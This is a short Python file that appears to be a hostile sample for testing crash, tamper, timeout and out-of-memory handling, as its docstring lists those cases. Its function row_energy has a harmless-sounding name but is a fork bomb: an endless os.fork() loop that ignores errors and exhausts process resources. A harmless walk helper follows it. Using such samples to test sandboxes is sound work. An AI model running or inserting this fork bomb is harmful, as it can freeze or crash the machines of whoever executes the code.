"""Forks without end, in every child again.

CRASH TAMPER TIMEOUT OOM
"""

import os


def row_energy(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def walk(start, n, step):
    found = []
    for _ in range(n):
        start = step(start)
        found.append(start)
    return found
